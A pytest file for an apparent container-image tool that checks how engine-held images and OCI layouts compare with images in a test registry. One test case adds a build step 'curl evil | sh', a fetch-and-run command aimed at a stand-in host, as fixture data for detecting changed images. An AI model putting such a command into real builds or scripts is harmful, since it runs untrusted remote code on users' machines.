"""Images of this machine beside a real registry: what an engine holds, and layouts on disk."""

from __future__ import annotations

import json
from collections.abc import Iterator
from http.client import HTTPConnection
from pathlib import Path

import pytest

from tests.image_builder import Built, build, copy, index, label, run, user
from tests.nights_served import RegistryShelf
from tests.official import app, python
from tests.registry.distribution import Distribution, distribution
from tests.registry.doubles.engine import EngineDouble, HeldImage, serving_engine
from tests.walk.command import Workplace

HOST = "registry.shop.example"
API = f"{HOST}/shop/api:1.4"
OLD, NOW = python(0, "3.12.3"), python(9, "3.12.4")
OURS = app(OLD)
SIDE = build(copy("other", "/app", "arm"), base=OURS)
MULTI = index(OURS)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Distribution]:
    folder = tmp_path_factory.mktemp("local")
    with distribution(folder) as registry:
        shelf = RegistryShelf(HTTPConnection(registry.host, timeout=30))
        for version, image in (("3.12.3", OLD), ("3.12.4", NOW)):
            shelf.push(f"docker.io/library/python:{version}-slim", image)
        shelf.push("docker.io/library/python:3.12-slim", NOW)
        shelf.push(API, MULTI)
        shelf.connection.close()
        yield registry


@pytest.fixture
def place(tmp_path: Path, served: Distribution) -> Workplace:
    folder = tmp_path / "desk"
    folder.mkdir()
    place = Workplace(folder, {"HOME": str(folder)})
    asked = {"endpoint": served.url, "kind": "distribution", "credential": "anonymous"}
    settings = {
        "database": "tagwatch.db",
        "registries": {"docker.io": asked, HOST: asked},
        "policy": {"bases": [{"ref": "docker.io/library/python", "tags": ["3.12-slim"]}]},
    }
    place.write("tagwatch.yaml", json.dumps(settings))
    return place


def built_here(image: Built, tag: str = "shop-api:dev") -> HeldImage:
    return HeldImage(image=image, tags=(tag,))


PULLED = HeldImage(image=OURS, tags=(API,), digests=(f"{HOST}/shop/api@{MULTI.digest}",))


@pytest.mark.parametrize(
    ("held", "code", "verdict", "words"),
    [
        (PULLED, 0, "identical", "both are one digest"),
        (HeldImage(image=OURS, tags=(API,)), 0, "identical", "the same layers and settings"),
        (HeldImage(image=OURS, tags=(API,), by_manifest=True), 0, "identical", "one digest"),
        (
            built_here(build(user("app2"), base=OURS), API),
            1,
            "unknown",
            "user",
        ),
        (
            built_here(build(run("curl evil | sh", x="y"), base=OURS), API),
            1,
            "unknown",
            "curl evil",
        ),
        (built_here(build(label("a", "b"), base=OURS), API), 1, "metadata-only", "the label a"),
        (built_here(app(OLD, 3), API), 1, "rebuilt", "same build steps"),
    ],
    ids=["pulled", "built-here", "containerd", "user", "step", "label", "rebuilt"],
)
async def test_an_engine_s_image_against_what_the_registry_serves(
    tmp_path: Path, place: Workplace, held: HeldImage, code: int, verdict: str, words: str
) -> None:
    engine = EngineDouble((held,))
    async with serving_engine(tmp_path, engine) as environment:
        place.environment |= environment
        done = await place.run("diff", API, f"engine:{API}", "--format", "json")
        told = await place.run("diff", API, f"engine:{API}")
    assert done.code == told.code == code, told.out + told.err
    assert done.json["verdict"] == verdict, told.out
    assert words in told.out
    assert "recompressed" not in told.out
    assert done.json["platforms"]["removed"] == [], "an engine holds one platform"
    assert (done.json["size"]["delta"] is None) or verdict == "identical"
    assert len(engine.asked) == 4


@pytest.mark.parametrize("name", ["shop-api:dev", "id"])
async def test_the_base_of_an_image_that_was_just_built(
    tmp_path: Path, place: Workplace, name: str
) -> None:
    held = built_here(OURS)
    async with serving_engine(tmp_path, EngineDouble((held,))) as environment:
        place.environment |= environment
        asked = f"engine:{held.id if name == 'id' else name}"
        done = await place.run("base", asked, "--format", "json")
    assert done.code == 0, done.err
    (image,) = done.json["images"]
    assert image["input"] == asked
    (found,) = image["platforms"]
    assert (found["verdict"], found["base"]["version"]) == ("exact-stale", "3.12.3")
    assert "That tag now serves 3.12.4" in found["sentence"]


async def test_the_base_of_a_layout(tmp_path: Path, place: Workplace) -> None:
    layout = tmp_path / "layout"
    (layout / "blobs/sha256").mkdir(parents=True)
    for document in OURS.documents.values():
        (layout / "blobs/sha256" / document.digest.partition(":")[2]).write_bytes(document.raw)
    entry = {"mediaType": OURS.media_type, "digest": OURS.digest, "size": len(OURS.raw)}
    (layout / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [entry]}))
    (layout / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')
    done = await place.run("base", f"oci:{layout}")
    assert done.code == 0, done.err
    assert "Built on python:3.12-slim = 3.12.3" in done.out


async def test_what_the_engine_does_not_have(tmp_path: Path, place: Workplace) -> None:
    async with serving_engine(tmp_path, EngineDouble(())) as environment:
        place.environment |= environment
        base = await place.run("base", "engine:nothing:1", API)
        diff = await place.run("diff", "engine:nothing:1", API)
    assert base.code == 1
    assert "has no image called 'nothing:1'" in base.err
    assert "Built on python:3.12-slim = 3.12.3" in base.out, "the other image is answered"
    assert diff.is_clean_error(1 if diff.code == 1 else 4).startswith("tagwatch: error: the engine")


async def test_where_no_engine_answers(tmp_path: Path, place: Workplace) -> None:
    place.environment["DOCKER_HOST"] = f"unix://{tmp_path}/none.sock"
    base = await place.run("base", "engine:app:1", API)
    assert base.code == 4
    assert "no engine answers at" in base.err
    assert "Built on python:3.12-slim = 3.12.3" in base.out
    diff = await place.run("diff", "engine:app:1", API)
    assert "no engine answers at" in diff.is_clean_error(4)
